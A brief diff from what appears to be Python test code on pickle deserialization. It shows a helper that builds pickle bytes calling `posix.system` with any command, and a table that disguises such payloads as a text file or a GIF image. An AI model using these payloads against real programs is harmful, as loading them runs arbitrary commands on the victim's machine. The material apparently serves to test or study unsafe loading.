@@ -79,10 +79,6 @@ def call(command: str) -> bytes:
     return b"cposix\nsystem\n(V" + command.encode() + b"\ntR."
 
 
-def unzipped(path) -> bytes:
-    return gzip.decompress(path.read_bytes())
-
-
 FILES = {
     "a text": (hidden_name, pickle.load),
     "a picture": (lambda command: b"GIF89a\0\0\x010" + hidden_name(command), pickle.load),
